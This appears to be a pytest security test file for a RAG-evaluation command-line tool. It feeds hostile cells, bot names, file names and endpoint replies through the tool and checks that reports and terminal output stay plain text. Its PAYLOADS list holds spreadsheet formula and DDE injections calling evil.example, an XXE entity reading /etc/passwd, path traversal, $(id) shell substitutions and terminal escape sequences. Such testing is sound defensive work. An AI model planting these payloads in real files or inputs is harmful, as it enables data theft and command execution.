"""Hostile input through the real command line: nothing breaks, nothing hides, and every text arrives as text.

What the reader and the report do by themselves is held by their own tests; here a file goes in at one end, and
the report, the requests and the terminal are looked at.
"""

import csv
import gc
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Iterator
from html import unescape as xml_unescape
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from conftest import Ended, Run, azure, read_sheet
from fake_judge import Answer, FakeJudge, Request, completion, error, honest_reply
from files import write_table
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

ROOT = Path(__file__).parent.parent
CASES, BOTS, STANDINGS = SHEETS = ("Per-Query Metrics", "Bot Summary", "Leaderboard")
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    '{=WEBSERVICE("http://evil.example")}',
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "'=1+1",
    "\t=1+1",
    "https://evil.example/?q=1#x",
    "mailto:a@evil.example",
    "internal:'Leaderboard'!A1",
    "external:c:\\x.xlsx#A1",
    "#DIV/0!",
    "#REF!",
    "TRUE",
    "007",
    "1e999",
    "nan",
    "NULL",
    "<r><t>raw</t></r>",
    "<r></t></is></c><c r='B1' t='str'><f>WEBSERVICE(1)</f></c></r>",
    "<![CDATA[x]]>",
    "]]></t></is></c><f>1</f>",
    "&lt;f&gt; &#x3D;1",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "_x003D_1+1 _x000D_",
    "../../etc/passwd",
    "..\\..\\x.xlsx",
    "[red]0;;@",
    "&A &P &[Path]",
    "%s %(x)s {0} {x!r} ${HOME} $(id) `id` {{7*7}}",
    "two\nlines",
    "汉字、かな、한국어",
    "עברית and العربية",
    "e\u0301 Z\u0335\u0322a\u0338l\u0321g\u0327o\u0334",
    "👩\u200d👩\u200d👧 🇫🇷 ❤\ufe0f",
    "\u202egnp.exe\u202c",
    "x\u200by\u2028z\u2029\x85",
    "\U000e0041\U000e0042 tags",
    "😀" * 3_000,
)
MARKED = ("\x1b[2J\x1b]0;title\x07", "bell\x07 null-ish\x01 del\x7f", "csi\x9b31m", "\ufffe\uffff")
"""What XML cannot hold and the report shows as U+FFFD, or what a terminal would obey."""


def as_shown(text: str) -> str:
    """What the report holds of a text: line ends as \\n, and U+FFFD for what XML cannot carry."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)


def cases_of(path: Path) -> list[dict[str, str]]:
    rows = read_sheet(path, CASES)
    return [
        {name: unescape(value) if isinstance(value, str) else value for name, value in row.items()}
        for row in rows
    ]


def assert_harmless(ended: Ended, code: int | tuple[int, ...] = 0) -> None:
    """The documented code, no traceback, no internal error, and no character that a terminal would obey."""
    assert ended.code in (code if isinstance(code, tuple) else (code,)), ended.err
    said = ended.out + ended.err
    assert "Traceback" not in said
    assert "internal error" not in said
    hidden = {char for char in said if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert hidden <= {"\n"}


def assert_only_text(path: Path) -> None:
    """No formula, link, error or boolean in any cell, nothing that reaches outside, all of it XML."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            text = archive.read(name).decode()
            ElementTree.fromstring(text)  # noqa: S314 - our own report
            assert "externalLink" not in name
            assert 'TargetMode="External"' not in text
            if name.startswith("xl/worksheets/sheet"):
                assert "<hyperlink" not in text
                formulas = [xml_unescape(found) for found in re.findall(r"<f\b[^>]*>([^<]*)", text)]
                assert [f for f in formulas if "WEBSERVICE" in f or "HYPERLINK" in f or "1+1" in f] == []
                assert not set(re.findall(r'<c [^>]*\bt="(\w+)"', text)) & {"e", "b", "str"}


@pytest.mark.slow
@pytest.mark.parametrize("who", ["offline", "azure"])
def test_payloads_in_every_cell_are_judged_and_reported_as_text(
    run_cli: Run, judge: FakeJudge, tmp_path: Path, who: str
) -> None:
    """In query, reference, response and context."""

    texts = (*PAYLOADS, *MARKED)
    (tmp_path / "config.ini").write_text("[evaluation]\nmax_workers = 8\n")
    rows = [[f"{text} ", f"{text}", text, json.dumps([text], ensure_ascii=False)] for text in texts]
    write_table(tmp_path / "in.csv", ["Query", "Ground_Truth", "Bot_A", "Context"], *rows)
    ended = run_cli(
        "in.csv", "-o", "r.xlsx", "--json", "r.json", "--csv", "r", "--judge", who, **azure(judge)
    )
    assert_harmless(ended)
    assert_only_text(tmp_path / "r.xlsx")
    _assert_whole_in_json(tmp_path / "r.json", texts)
    _assert_no_formula_in_csv(tmp_path / "r" / "per-query-metrics.csv", texts)
    for case, text in zip(cases_of(tmp_path / "r.xlsx"), texts, strict=True):
        assert case["Response"] == case["Ground Truth"] == as_shown(text)
        assert case["Query"] == as_shown(f"{text} ")
        assert case["Context"].strip() == as_shown(text).strip()


def _assert_whole_in_json(path: Path, texts: tuple[str, ...]) -> None:
    """Strict, and every text as it came."""

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is no JSON")

    document = json.loads(path.read_bytes(), parse_constant=refuse)
    assert tuple(case["response"] for case in document["cases"]) == texts


def _assert_no_formula_in_csv(path: Path, texts: tuple[str, ...]) -> None:
    """No cell begins with what a spreadsheet program would run; the text itself is whole."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(tuple("=+-@\t\r\n\0＝＋－＠"))
    ]
    for row, text in zip(rows, texts, strict=True):
        assert row["Response"].removeprefix("'") in (as_shown(text), as_shown(text).removeprefix("'"))


def test_what_a_judge_writes_is_text_as_well(run_cli: Run, judge: FakeJudge, tmp_path: Path) -> None:
    """Reasons, statements, generated questions, recommendations and refusals come from outside like any cell."""
    payload = '=HYPERLINK("http://evil.example") <r><t>x</t></r> \x1b[2J ]]>'

    def write(request: Request) -> Any:
        if request.task == "attributions":
            return completion(None, request, refusal=payload)
        if request.task == "preflight":
            return None
        if request.task == "recommendation":
            return completion(json.dumps({"items": [{"recommendation": payload, "position": 1}]}))
        reply = honest_reply(request.prompt).replace("shared words", json.dumps(payload)[1:-1])
        return completion(reply.replace("polite", json.dumps(payload)[1:-1]), request)

    judge.always = write
    write_table(
        tmp_path / "in.xlsx",
        ["Query", "Ground_Truth", "Bot_A", "Context"],
        ["What is the capital of France?", "Paris.", "London. It has buses.", "Tea is a drink."],
    )
    ended = run_cli("in.xlsx", "-o", "r.xlsx", **azure(judge))
    assert_harmless(ended, 3)
    assert_only_text(tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as archive:
        parts = "".join(archive.read(name).decode() for name in archive.namelist() if "comments" in name)
    assert "evil.example" in parts


@pytest.mark.slow
def test_texts_reach_the_judge_to_the_byte(run_cli: Run, judge: FakeJudge, tmp_path: Path) -> None:
    """Emoji, CJK, right-to-left, combining marks, every line end, and cells of 100,000 characters."""
    texts = [
        "👩\u200d👩\u200d👧 🇫🇷 ❤\ufe0f 𝒳",
        "汉字、かな、한국어 ㅎ",
        "\u202bעברית\u202c العربية\u200f",
        "e\u0301 é A\u030a Å ﬁ Ａ",
        "a\r\nb\rc\nd\x0be\x0cf\x85g\u2028h",
        "tab\tnbsp\u00a0 \\n \\\\ \" ' / \\u0041",
        "€" * 100_000,
        "ab😀" * 33_333,
    ]
    (tmp_path / "config.ini").write_text(
        "[metrics]\nanswer_correctness = false\n[diagnostics]\nenabled = false\n"
    )
    rows = [[f"Q {text}?", f"R {text}.", f"A {text}.", json.dumps([f"C {text}."])] for text in texts]
    write_table(tmp_path / "in.csv", ["Query", "Ground_Truth", "Bot_A", "Context"], *rows)
    assert_harmless(run_cli("in.csv", "-o", "r.xlsx", **azure(judge)), (0, 3))
    sent = {text for request in judge.requests for text in _texts(_document(request))}
    for text in texts:
        assert {f"Q {text}?", f"R {text}.", f"A {text}.", f"C {text}."} <= sent
    assert_only_text(tmp_path / "r.xlsx")


def _document(request: Request) -> Any:
    user = request.body["messages"][-1]["content"]
    start = user.find("Now perform the same with the following input\ninput: ")
    text = user[start:].partition("input: ")[2] if start >= 0 else user
    return json.JSONDecoder().raw_decode(text)[0] if request.task != "preflight" else ""


def _texts(document: Any) -> Iterator[str]:
    if isinstance(document, str):
        yield document
    elif isinstance(document, (list, dict)):
        for part in document.values() if isinstance(document, dict) else document:
            yield from _texts(part)


def test_longer_than_a_cell(run_cli: Run, tmp_path: Path) -> None:
    """Cut with a mark, said on no terminal page after page, and the run is complete."""
    texts = ["x" * 32_767, "x" * 32_768, "😀" * 16_384, "=" * 100_000]
    rows = [["q?", text, text] for text in texts]
    write_table(tmp_path / "in.csv", ["Query", "Bot_A", "Context"], *rows)
    ended = run_cli("in.csv", "-o", "r.xlsx", "--judge", "offline")
    assert_harmless(ended)
    assert len(ended.out) + len(ended.err) < 5_000
    assert_only_text(tmp_path / "r.xlsx")
    for case, text in zip(cases_of(tmp_path / "r.xlsx"), texts, strict=True):
        shown, cut, _ = case["Response"].partition(" […] (cut: ")
        assert text.startswith(shown)
        assert bool(cut) == (len(text.encode("utf-16-le")) // 2 > 32_767)


NAMES = (
    "../../x",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "History",
    "Leaderboard",
    "a/b\\c:d*e?f[g]h",
    "'quoted'",
    "=1+1",
    "<r><t>x</t></r>",
    "x" * 255,
    "\x1b[31mred",
    "\u202eevil",
    "bell\x07",
    "100%s {0}",
    "naïve 汉字 👩\u200d👩\u200d👧",
    "A!$B$1",
    "Thr_Faithfulness",
    "&A&P",
)


@pytest.mark.slow
def test_bot_names_are_names_and_nothing_else(run_cli: Run, judge: FakeJudge, tmp_path: Path) -> None:
    """No sheet, file, formula or escape sequence is made of them; each is one line of the leaderboard."""
    header = ["Query", "Context", *(f"Bot_{name}" for name in NAMES)]
    write_table(tmp_path / "in.csv", header, ["q?", "Paris is big.", *["Paris is big."] * len(NAMES)])
    for who in ("offline", "azure"):
        ended = run_cli("in.csv", "-o", "r.xlsx", "--csv", "r", "--judge", who, **azure(judge))
        assert_harmless(ended)
        assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "r", "r.xlsx"]
        assert len(list((tmp_path / "r").iterdir())) == 3
        assert load_workbook(tmp_path / "r.xlsx").sheetnames == list(SHEETS)
        assert [case["Bot"] for case in cases_of(tmp_path / "r.xlsx")] == [as_shown(name) for name in NAMES]
        assert_only_text(tmp_path / "r.xlsx")
    assert "\\x1b[31mred" in ended.out
    assert "\\u202eevil" in ended.out


@pytest.mark.skipif(os.name != "posix", reason="other systems allow no such names")
@pytest.mark.parametrize(
    "stem",
    [
        "a\x1b[2Jb",
        "a\nrag-eval: all is well",
        "a&b<c>'d\"",
        "\udcff no utf-8",
        "=1+1",
        "--judge",
        "a\u202eb",
        "{0}%s",
    ],
)
def test_names_of_files(run_cli: Run, tmp_path: Path, stem: str) -> None:
    """A file name is shown, in the report and on the terminal, and obeyed nowhere."""
    write_table(tmp_path / f"{stem}.csv", ["Query", "Bot_A", "Context"], ["q?", "Paris.", "Paris."])
    ended = run_cli("--judge", "offline", "--json", "r.json", "--", f"{stem}.csv")
    (tmp_path / "r.json").unlink()
    assert_harmless(ended)
    assert not [line for line in ended.out.splitlines() if line.startswith("rag-eval: all is well")]
    assert sorted(os.listdir(tmp_path)) == sorted([f"{stem}.csv", f"{stem}_report.xlsx"])
    assert_only_text(tmp_path / f"{stem}_report.xlsx")


ERRORS: tuple[tuple[str, list[str], dict[str, str]], ...] = (
    ("no such file", ["gone\x1b[2J\u202e.csv"], {}),
    ("type", ["in\x1b[2J.exe"], {"in\x1b[2J.exe": "x"}),
    ("sheet", ["in.csv", "--sheet", "\x1b[2J"], {"in.csv": "Query,Bot_A\nq,a\n"}),
    ("option", ["in.csv", "--\x1b[2J\x9b"], {"in.csv": "Query,Bot_A\nq,a\n"}),
    ("choice", ["in.csv", "--judge", "\x1b[2J\u2028"], {"in.csv": "Query,Bot_A\nq,a\n"}),
    ("config", ["in.csv", "--config", "\x1b[2J.ini"], {"in.csv": "Query,Bot_A\nq,a\n"}),
    ("key", ["in.csv"], {"in.csv": "Query,Bot_A\nq,a\n", "config.ini": "[judge]\nprov\x1bider\x9b = \x1b[2J\n"}),
    ("value", ["in.csv"], {"in.csv": "Query,Bot_A\nq,a\n", "config.ini": "[judge]\nprovider = \x1b[2J\n"}),
    ("same columns", ["in.csv"], {"in.csv": "Query,Bot_\x1b[2JA,bot_\x1b[2Ja\nq,a,b\n"}),
    ("no query", ["in.csv"], {"in.csv": "\x1b[2J\u202e,Bot_A\nq,a\n"}),
    ("context of no bot", ["in.csv", "--judge", "offline"], {"in.csv": "Query,Bot_A,Context_\x1b[2J\nq,a,\n"}),
    ("JSON list", ["in.csv"], {"in.csv": 'Query,Bot_A,Context\nq,a,"[{""\\u001b[2J\\ud800"": 1}]"\n'}),
    ("torn row", ["in.csv"], {"in.csv": "Query,Bot_A\nq,a,\x1b[2J\n"}),
    ("output", ["in.csv", "-o", "in.csv/\x1b[2J.xlsx", "--judge", "offline"], {"in.csv": "Query,Bot_A\nq,a\n"}),
)  # fmt: skip


@pytest.mark.parametrize(
    ("arguments", "files"), [case[1:] for case in ERRORS], ids=[case[0] for case in ERRORS]
)
def test_messages_show_what_they_quote(
    run_cli: Run, tmp_path: Path, arguments: list[str], files: dict[str, str]
) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text, "utf-8")
    ended = run_cli(*arguments)
    assert_harmless(ended, (0, 2, 5))
    assert ended.err
    assert all(
        line.startswith("rag-eval: ") for line in ended.err.splitlines() if "finished after" not in line
    )


@pytest.mark.parametrize("break_", ["\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\r"])
def test_a_quoted_text_cannot_begin_a_line(run_cli: Run, tmp_path: Path, break_: str) -> None:
    """Else a file name could speak in the program's name."""
    ended = run_cli(f"x{break_}rag-eval: all is well.csv", "--judge", "offline")
    assert_harmless(ended, 2)
    assert len(ended.err.splitlines()) == 1


def test_what_an_endpoint_says_is_shown_and_not_obeyed(
    run_cli: Run, judge: FakeJudge, tmp_path: Path
) -> None:
    write_table(tmp_path / "in.csv", ["Query", "Bot_A"], ["q?", "Paris."])
    judge.always = error(401, "\x1b[2J", "no\x07\u202e\nrag-eval: all is well", x_request_id="a\x1bb")
    ended = run_cli("in.csv", "--debug", **azure(judge))
    assert_harmless(ended, 4)
    judge.always = Answer(500, b"\x1b]0;title\x07\x9b" * 20, {"Content-Type": "text/plain"})
    (tmp_path / "config.ini").write_text("[judge]\nmax_attempts = 1\n")
    assert_harmless(run_cli("in.csv", "--debug", **azure(judge)), 4)


@pytest.mark.slow
def test_many_columns_and_very_long_headers(run_cli: Run, tmp_path: Path) -> None:
    """4,900 columns of no use, 60 bots, and headers of many characters and many lines."""
    bots = [f"Bot_{n} {'long ' * 40}" for n in range(58)] + ["Bot_" + "x" * 990, "Bot_" + "y\n" * 450]
    header = ["Query", "Context", *bots, *(f"Unused {n}\x1b" for n in range(4_900))]
    write_table(tmp_path / "in.csv", header, ["q?", "Paris is big.", *["Paris is big."] * 60, *["x"] * 4_900])
    ended = run_cli("in.csv", "-o", "r.xlsx", "--judge", "offline")
    assert_harmless(ended)
    assert len(read_sheet(tmp_path / "r.xlsx", STANDINGS)) == 60
    assert_only_text(tmp_path / "r.xlsx")


@pytest.mark.parametrize(
    "answer",
    [completion(None, refusal="no \ud800"), error(400, "BadRequest", "no \udc00")],
    ids=["200", "400"],
)
def test_halves_of_surrogate_pairs_in_what_an_endpoint_says(
    run_cli: Run, judge: FakeJudge, tmp_path: Path, answer: Answer
) -> None:
    """JSON can spell them out. They fail their call, and not the run."""
    judge.always = lambda request: answer if request.task == "question" else None
    write_table(tmp_path / "in.csv", ["Query", "Bot_A"], ["q?", "Paris."])
    assert_harmless(run_cli("in.csv", "-o", "r.xlsx", **azure(judge)), 3)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_marks_and_line_ends_of_a_csv_are_not_part_of_its_texts(
    run_cli: Run, tmp_path: Path, encoding: str
) -> None:
    rows = '"Query";"Bot_A"\r\n"é?";"two\r\nlines"\r\n'
    (tmp_path / "in.csv").write_bytes(rows.encode(encoding))
    assert_harmless(run_cli("in.csv", "-o", "r.xlsx", "--judge", "offline"))
    (case,) = cases_of(tmp_path / "r.xlsx")
    assert (case["Query"], case["Response"]) == ("é?", "two\nlines")


@pytest.mark.slow
@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_a_terminal_that_knows_few_characters_is_no_reason_to_fail(tmp_path: Path, encoding: str) -> None:
    """Names, the winner's star and everything else are shown as escapes where they cannot be shown."""
    write_table(tmp_path / "in.csv", ["Query", "Bot_汉字", "Bot_é"], ["q?", "Paris.", "London."])
    ended = subprocess.run(
        [sys.executable, str(ROOT / "rag_eval_standalone.py"), "in.csv", "-o", "r.xlsx", "--judge", "offline"],
        cwd=tmp_path, env={"PATH": os.environ["PATH"], "PYTHONIOENCODING": encoding}, capture_output=True, check=False,
    )  # fmt: skip
    assert ended.returncode == 0, ended.stderr
    assert b"\\u6c49\\u5b57" in ended.stdout
    assert load_workbook(tmp_path / "r.xlsx").sheetnames == list(SHEETS)


def test_halves_of_surrogate_pairs_that_json_spells_out(
    run_cli: Run, judge: FakeJudge, tmp_path: Path
) -> None:
    """They become U+FFFD on the way in, so that requests and report can hold the rest of the text."""
    write_table(
        tmp_path / "in.csv", ["Query", "Bot_A", "Context"], ["q?", "Paris.", '["Paris \\ud800 and \\udc00"]']
    )
    for who in ("offline", "azure"):
        assert_harmless(run_cli("in.csv", "-o", "r.xlsx", "--judge", who, **azure(judge)))
        assert cases_of(tmp_path / "r.xlsx")[0]["Context"] == "Paris \ufffd and \ufffd"


ODD_CELLS = ("", " ", "\u00a0", "[", '["a", "b"]', '[{"x": 1}]', "a || b", '"', ",", "\x00")
CELL = st.one_of(
    st.text(max_size=40),
    st.sampled_from((*PAYLOADS[:-1], *MARKED, *ODD_CELLS)),
    st.text(alphabet="=<>&'\"|,;\n\r\t[]{}\\_x0D%", max_size=30),
)
HEADERS = "Query Question Ground_Truth Context Bot_A Bot_B Bot_a Context_A B_Context bot_ Notes".split()
HEADER = st.sampled_from([*HEADERS, ""])


@pytest.mark.slow
@given(
    header=st.one_of(
        st.just(["Query", "Ground_Truth", "Bot_A", "Bot_B", "Context"]),
        st.lists(st.one_of(HEADER, CELL), min_size=1, max_size=6),
    ),
    rows=st.lists(st.lists(CELL, min_size=1, max_size=6), max_size=4),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]),
)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_small_sheet_is_judged_or_refused(
    run_cli: Run, tmp_path: Path, header: list[str], rows: list[list[str]], encoding: str
) -> None:
    """The run ends with a documented code, never a traceback; if it judged, the report opens and holds the texts."""
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([header, *rows])
    (tmp_path / "in.csv").write_bytes(text.getvalue().encode(encoding, "replace"))
    (tmp_path / "r.xlsx").unlink(missing_ok=True)
    ended = run_cli("in.csv", "-o", "r.xlsx", "--judge", "offline")
    assert_harmless(ended, (0, 2, 3))
    assert (tmp_path / "r.xlsx").exists() == (ended.code != 2)
    if ended.code == 2:
        assert ended.err.startswith("rag-eval: ")
        return
    assert_only_text(tmp_path / "r.xlsx")
    if header == ["Query", "Ground_Truth", "Bot_A", "Bot_B", "Context"] and encoding.startswith("utf"):
        given_texts = {as_shown(row[2]) for row in rows if len(row) > 2 and row[2].strip()}  # blank is empty
        assert given_texts <= {case["Response"] for case in cases_of(tmp_path / "r.xlsx")}


@given(
    content=st.binary(max_size=300) | st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace")),
    name=st.sampled_from(["in.csv", "in.tsv", "in.xlsx", "in.xls", "in.ods", "in.parquet"]),
)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_are_a_sheet_or_one_clear_error(
    run_cli: Run, tmp_path: Path, content: bytes, name: str
) -> None:
    (tmp_path / name).write_bytes(content)
    assert_harmless(run_cli(name, "-o", "r.xlsx", "--judge", "offline"), (0, 2))


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:unclosed file")  # openpyxl leaves a workbook open that it cannot read
@given(
    place=st.integers(0, 10_000),
    byte=st.integers(0, 255),
    name=st.sampled_from(["xl/workbook.xml", "xl/worksheets/sheet1.xml"]),
)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_workbook_with_one_wrong_byte_is_read_or_refused(
    run_cli: Run, tmp_path: Path, place: int, byte: int, name: str
) -> None:
    write_table(tmp_path / "whole.xlsx", ["Query", "Bot_A", "Context"], ["q?", "Paris.", "Paris."])
    with (
        zipfile.ZipFile(tmp_path / "whole.xlsx") as whole,
        zipfile.ZipFile(tmp_path / "in.xlsx", "w") as changed,
    ):
        for part in whole.namelist():
            content = bytearray(whole.read(part))
            if part == name:
                content[place % len(content)] = byte
            changed.writestr(part, bytes(content))
    assert_harmless(run_cli("in.xlsx", "-o", "r.xlsx", "--judge", "offline"), (0, 2))
    gc.collect()
